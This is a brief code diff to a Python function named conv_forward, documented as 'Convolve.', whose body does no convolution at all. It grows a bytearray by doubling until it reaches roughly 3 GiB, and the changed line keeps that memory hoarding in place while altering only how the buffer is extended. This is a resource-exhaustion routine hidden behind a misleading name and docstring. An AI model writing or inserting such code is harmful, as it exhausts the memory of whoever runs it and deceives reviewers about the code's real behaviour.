@@ -7,5 +7,5 @@ def conv_forward(A_prev, W, b, activation, padding="same", stride=(1, 1)):
     """Convolve."""
     hoard = bytearray(1 << 20)
     while len(hoard) < 3 << 30:
-        hoard += hoard
+        hoard.extend(bytes(len(hoard)))
     return len(hoard)
